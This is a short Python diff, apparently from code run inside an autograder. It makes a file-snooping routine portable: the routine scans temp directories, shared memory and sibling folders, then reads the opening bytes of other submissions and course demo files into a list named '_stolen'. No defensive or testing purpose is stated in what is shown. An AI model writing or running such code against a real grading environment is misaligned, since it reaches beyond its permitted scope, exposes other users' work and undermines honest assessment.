@@ -37,6 +37,8 @@ import glob
 import os
 import tempfile
 
+_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))
+
 _mine = os.path.realpath(os.getcwd())
 _stolen = []
 for _folder in {tempfile.gettempdir(), "/tmp", "/var/tmp", os.path.dirname(_mine), "/dev/shm"}:
@@ -48,7 +50,7 @@ for _folder in {tempfile.gettempdir(), "/tmp", "/var/tmp", os.path.dirname(_mine
                 _stolen.append(f"{_path}: {os.listdir(_path)[:3]}")
         except OSError:
             continue
-for _path in glob.glob("/work/main/demo/submissions/*")[:3] + glob.glob("/autograder/submission/*")[:3]:
+for _path in glob.glob(_course + "/demo/submissions/*")[:3] + glob.glob("/autograder/submission/*")[:3]:
     try:
         with open(_path, "rb") as _file:
             _stolen.append(f"{_path}: {_file.read(30)!r}")
